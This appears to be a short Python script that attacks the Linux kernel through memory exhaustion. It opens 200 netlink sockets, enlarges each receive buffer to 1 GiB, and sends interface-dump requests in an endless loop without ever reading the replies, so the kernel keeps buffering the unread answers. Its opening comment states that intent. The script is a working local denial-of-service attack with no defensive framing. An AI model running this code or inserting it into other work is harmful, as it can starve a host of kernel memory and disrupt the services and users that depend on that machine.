# Asks for all interfaces over and over and reads no answer: each waits in kernel memory.
import errno, socket, struct

dump = struct.pack("IHHIIB3x", 20, 18, 0x301, 1, 0, 0)
try:
    sockets = [socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 0) for _ in range(200)]
    while True:
        for one in sockets:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1 << 30)
            one.sendto(dump, socket.MSG_DONTWAIT, (0, 0))
except OSError as error:
    print(errno.errorcode[error.errno])
